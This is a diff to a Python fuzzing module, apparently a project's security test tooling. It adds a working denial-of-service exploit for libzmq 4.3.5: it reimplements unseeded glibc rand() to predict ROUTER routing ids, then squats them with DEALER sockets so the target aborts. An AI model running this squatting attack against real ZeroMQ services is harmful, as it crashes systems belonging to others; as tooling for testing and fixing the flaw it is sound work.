@@ -8,7 +8,9 @@ model's context. Deterministic for a seed.
 
 from __future__ import annotations
 
+import itertools
 import random
+from collections.abc import Iterator
 
 import msgspec
 
@@ -87,3 +89,82 @@ class Fuzzer:
                                P.Error(sid, 0, P.ErrorCode.BAD_REQUEST, "forged")])
             return [client, *P.encode(forged)]
         return [client, *self.malformed()]
+
+
+# ---- routing-id squatting (libzmq 4.3.5) ------------------------------------------------------------
+
+def glibc_rand() -> Iterator[int]:
+    """glibc's rand() in a process that never called srand() (seed 1): the TYPE_3 additive feedback generator
+    r[i] = r[i-31] + r[i-3] (mod 2^32), outputs r[i] >> 1 from i = 344 on."""
+    r = [1]
+    for i in range(1, 31):
+        r.append(16807 * r[i - 1] % 2147483647)
+    r += r[:3]
+    i = 34
+    while True:
+        r.append((r[i - 31] + r[i - 3]) & 0xFFFFFFFF)
+        if i >= 344:
+            yield r[i] >> 1
+        i += 1
+
+
+def predicted_routing_ids(count: int = 32, sockets: int = 4) -> list[bytes]:
+    """The ids unseeded ROUTERs generate for peers that send none: `0x00` + big-endian uint32 counter, starting
+    at libzmq's generate_random() = rand() | rand() << 31, read when the socket is made. The k-th ROUTER (or REP:
+    the ZAP handler's socket) a process makes starts at its k-th pair of rand() outputs; this covers the first
+    `sockets` of them, count // sockets consecutive ids each."""
+    outputs = list(itertools.islice(glibc_rand(), 2 * sockets))
+    starts = [(outputs[2 * k] | outputs[2 * k + 1] << 31) & 0xFFFFFFFF for k in range(sockets)]
+    return [b"\x00" + ((start + i) & 0xFFFFFFFF).to_bytes(4, "big") for start in starts
+            for i in range(count // sockets)]
+
+
+def squat(endpoint: str, ids: list[bytes], *, curve=None, anonymous: int = 5, timeout: float = 20.0) -> list:
+    """The attack of issue 18 item 1: one DEALER per id in `ids` (ids the peer chooses itself), each connected
+    and handshaken, then `anonymous` DEALERs without an id, one after the other. Against a ROUTER whose next
+    generated id is squatted, libzmq 4.3.5 asserts and aborts. Returns (context, sockets) for the caller to
+    close. Blocking (plain zmq): run it in a thread from asyncio."""
+    import zmq
+
+    from .common import transport
+
+    ctx = zmq.Context()
+    socks = []
+    try:
+        for identity in [*ids, *[None] * anonymous]:
+            sock = transport.make_socket(ctx, zmq.DEALER, linger_ms=0, identity=identity, curve=curve)
+            socks.append(sock)
+            connect_and_handshake(sock, endpoint, timeout)
+    except BaseException:
+        _close_all(ctx, socks)
+        raise
+    return [ctx, socks]
+
+
+def connect_and_handshake(sock, endpoint: str, timeout: float) -> None:
+    """Connect and wait for the ZMTP handshake (EVENT_HANDSHAKE_SUCCEEDED); a refused key fails at once."""
+    import zmq
+    from zmq.utils.monitor import recv_monitor_message
+
+    monitor = sock.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED | zmq.EVENT_HANDSHAKE_FAILED_AUTH
+                                      | zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL)
+    try:
+        sock.connect(endpoint)
+        if not monitor.poll(int(timeout * 1000)):
+            raise TimeoutError(f"no handshake with {endpoint} in {timeout:.0f}s")
+        event = recv_monitor_message(monitor)["event"]
+        if event != zmq.EVENT_HANDSHAKE_SUCCEEDED:
+            raise ConnectionRefusedError(f"{endpoint} refused the handshake (event {event})")
+    finally:
+        sock.disable_monitor()
+        monitor.close(linger=0)
+
+
+def _close_all(ctx, socks) -> None:
+    for sock in socks:
+        sock.close(linger=0)
+    ctx.term()
+
+
+def end_squat(squatted) -> None:
+    _close_all(*squatted)
